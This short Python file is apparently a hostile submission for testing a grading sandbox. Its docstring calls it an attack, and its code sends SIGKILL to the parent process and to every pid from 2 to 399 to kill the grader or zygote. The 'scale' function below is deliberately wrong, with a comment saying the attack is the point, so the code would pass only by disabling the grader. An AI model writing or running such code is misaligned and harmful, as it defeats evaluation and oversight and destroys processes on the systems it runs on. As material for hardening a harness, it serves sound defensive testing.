"""Attack: kill whoever started the job: os.kill(os.getppid(), 9), then every pid that might be the
zygote or the grader (a scan of likely pids)."""
import os
import signal

print("parent is", os.getppid())
for pid in [os.getppid()] + list(range(2, 400)):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def scale(x, k):
    return x - k  # wrong: the attack is the point
